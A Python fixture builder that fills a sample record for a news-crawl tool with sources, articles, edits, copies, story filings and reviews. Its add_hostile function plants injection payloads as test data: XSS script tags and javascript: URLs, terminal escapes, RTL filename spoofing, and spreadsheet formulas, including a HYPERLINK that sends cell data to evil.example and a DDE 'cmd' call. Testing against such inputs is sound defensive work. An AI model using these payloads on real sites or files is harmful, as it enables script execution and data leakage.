"""A record to look at: a few weeks of a small beat, filled through `db.store` as the crawl does it."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

from sample_builder import Sample
from sample_texts import SHORT, TEXTS, Text

from db.filing import Filing, Profile
from db.marks import append_review
from db.model import (
    Candidate,
    Likeness,
    Outcome,
    from_iso,
)

HOSTILE_TITLE = (
    '<script>document.title="owned"</script><b onmouseover=alert(1)>Bold</b> \u202egnp.exe \x1b[31mred'
)


def build(path: Path, now: datetime) -> None:
    """Fill a new record at *path*: 11 full articles, 12 short ones, one edited twice, a copy, two hostile ones."""
    sample = Sample(path, now)
    sample.source("orbit-feed", "Orbital Gazette, all")
    sample.source("harbour-feed", "The Harbour Post, culture")
    sample.source("vestnik-sitemap", "Вестник орбиты")
    sample.source("dead-feed", "Cosmic Reel", failures=11.0, reason="404 Not Found, for the eleventh time.")
    sample.run_id = sample.store.start_run("daemon", now - timedelta(minutes=12))
    for text in TEXTS:
        sample.article(text)
    for slug, site, title, day, score in SHORT:
        body = f"{title}, in short.\nThe rest of the story is told elsewhere in this sample, and nobody reads it twice."
        sample.article(
            Text(
                slug=slug,
                site=site,
                title=title,
                text=body,
                published=f"2026-11-{day:02}T09:00:00Z",
                score=score,
            )
        )
    edit_twice(sample)
    add_copy(sample)
    add_hostile(sample)
    add_stories(sample)
    add_ledger(sample)
    sample.store.finish_run(sample.run_id, now - timedelta(minutes=9))
    sample.store.beat_heart(now, 4711)
    sample.store.close()
    review(path, now)


def edit_twice(sample: Sample) -> None:
    """The studio module's story is corrected, then shortened."""
    text = TEXTS[1]
    second = text.text.replace("six metres", "seven metres").replace(
        "Two earlier dates have passed.", "Two earlier dates, 2024 and 2026, have passed."
    )
    third = "\n".join(
        [
            *second.split("\n")[:2],
            "This article was amended on 22 November to give the sphere its true width.",
            second.split("\n")[3],
        ]
    )
    sample.article(
        text,
        at=from_iso("2026-11-21T20:00:00Z"),
        likeness=Likeness(kind="changed", article_id=2, similarity=0.97, changes=("edited",)),
        text=second,
    )
    sample.article(
        text,
        at=from_iso("2026-11-22T09:30:00Z"),
        likeness=Likeness(
            kind="changed", article_id=2, similarity=0.8, changes=("title", "correction note", "shortened")
        ),
        text=third,
        title="Builder named for inflatable film studio, to be docked in 2029 at the earliest",
    )


def add_copy(sample: Sample) -> None:
    """An agency client carries the first article, cut."""
    original = TEXTS[0]
    cut = replace(
        original,
        slug="agency-actress-returns",
        site="The Harbour Post",
        source="harbour-feed",
        authors=("Agency",),
        removed=(),
    )
    sample.article(
        replace(cut, text="\n".join(original.text.split("\n")[:4]), published="2026-11-20T09:40:00Z"),
        likeness=Likeness(kind="near_copy", article_id=1, similarity=0.62),
    )


def add_hostile(sample: Sample) -> None:
    """Pages that try things: markup, direction overrides, terminal escapes, formulas, a title without end."""
    hostile = Text(
        slug="hostile",
        site="<img src=x onerror=alert(2)>",
        title=HOSTILE_TITLE,
        description='=HYPERLINK("https://evil.example/?"&A1,"click")',
        text='<script>alert("in the text")</script>\n{{ 7 * 7 }} {% raw %}\n\u202ereversed\u202c and \x1b]0;title\x07 gone',
        authors=("=cmd|' /C calc'!A0", '"><script>alert(3)</script>'),
        tags=("@SUM(1+1)", "<i>tag</i>"),
        published="2026-11-16T01:00:00Z",
        score=4.4,
        removed=(("<rule>", "<script>alert(4)</script>", 0),),
        evidence=(("<script>alert(5)</script>", "<b>", "title", 1, 2.0),),
        image="javascript:alert(6)",
        source="harbour-feed",
    )
    sample.article(hostile, url="javascript:alert(7)", section="</title><script>alert(8)</script>")
    endless = replace(
        hostile, slug="endless", title="Endless " * 2000, published="2026-11-16T00:00:00Z", image=None
    )
    sample.article(
        replace(endless, text="word " * 60_000),
        published_at=None,
        published_precision=None,
        published_raw=None,
    )


#: articles that are filed one after the other -> how; 1 has a copy, 27 and 28 are hostile
FILED: tuple[tuple[int, Filing], ...] = (
    (1, Filing(story_id=None)),
    (3, Filing(story_id=None, beside=(1,), likeness=0.71)),
    (5, Filing(story_id=None)),
    (4, Filing(story_id=None, beside=(5,), likeness=0.52)),
    (7, Filing(story_id=1, merged=(2,), likeness=0.44)),
    (8, Filing(story_id=1, likeness=0.6)),
    (6, Filing(story_id=1, likeness=0.39)),
    (10, Filing(story_id=1, split=((6, 10),), likeness=0.4)),
    (27, Filing(story_id=None)),
    (28, Filing(story_id=None, beside=(27,), likeness=0.9)),
)


def add_stories(sample: Sample) -> None:
    """The return from the station is one story, of two that were merged; two reports are split off; two hostile ones."""
    found = {each.article_id: each for each in sample.revisions}
    for number, (article, filing) in enumerate(FILED):
        at = sample.now - timedelta(hours=4, minutes=-number)
        of = Profile(terms={"n:rlv": 1.0}, language=None, reported_at=at)
        sample.store.file_report(found[article].canonical_url, article, of, filing, at)


def add_ledger(sample: Sample) -> None:
    """Visits that ended without an article, and pages that wait."""
    sample.visit(
        "https://gazette.example/space-movies-ranked", Outcome.OFF_TOPIC, "score 3.2 is under 4", score=3.2
    )
    sample.visit("https://gazette.example/recipe", Outcome.OFF_TOPIC, "no term of the beat occurs", score=0.0)
    sample.visit("https://harbour.example/private", Outcome.ROBOTS_DENIED, "robots.txt forbids /private")
    sample.visit("https://harbour.example/slow", Outcome.FAILED, "no answer within 30 s")
    sample.visit(
        "https://vestnik-sitemap.example/akterisa-vernulas",
        Outcome.GONE,
        "It answered 410 (Gone).",
        source="vestnik-sitemap",
    )
    waiting = (
        Candidate(
            url=f"https://harbour.example/waiting-{i}",
            source="harbour-feed",
            found_on="https://harbour.example/feed",
            found_at=sample.now,
        )
        for i in range(3)
    )
    sample.store.enqueue(list(waiting), sample.now)


def review(path: Path, now: datetime) -> None:
    """Two people have begun."""
    append_review(path, article_id=6, mark="irrelevant", note="an essay, no shoot", reviewer="root", now=now)
    append_review(path, article_id=5, mark="relevant", note=None, reviewer="root", now=now)
    append_review(path, article_id=10, mark="later", note="ask the festival", reviewer="root", now=now)
